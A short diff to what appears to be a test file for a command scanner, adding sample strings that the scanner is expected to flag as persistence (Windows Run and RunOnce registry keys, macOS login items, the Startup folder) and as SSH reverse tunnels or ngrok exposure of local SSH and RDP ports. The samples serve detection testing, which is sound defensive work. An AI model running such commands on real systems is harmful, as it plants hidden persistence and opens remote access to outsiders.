@@ -188,6 +188,17 @@ describe('scanner fast paths', () => {
       'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x',
       'schtasks.exe /create /tn x',
       '@reboot /opt/x',
+      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersionRunOnce /v x',
+      'tell application "System Events" to make new login item at end',
+      'Copy-Item x.exe "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe"',
+      'explorer shell:startup',
+    ],
+    'remote.ssh-reverse-tunnel': [
+      'ssh -fNR 2222:127.0.0.1:22 u@198.51.100.3',
+      'ssh -R 0.0.0.0:5901:localhost:5900 u@h',
+      'ssh -o X=1 -R 3389:[::1]:3389 u@h',
+      'ngrok tcp 22',
+      'ngrok tcp localhost:3389',
     ],
     'obfuscation.eval-decode': [
       'eval(atob("ZWNobyBoaQ=="))',
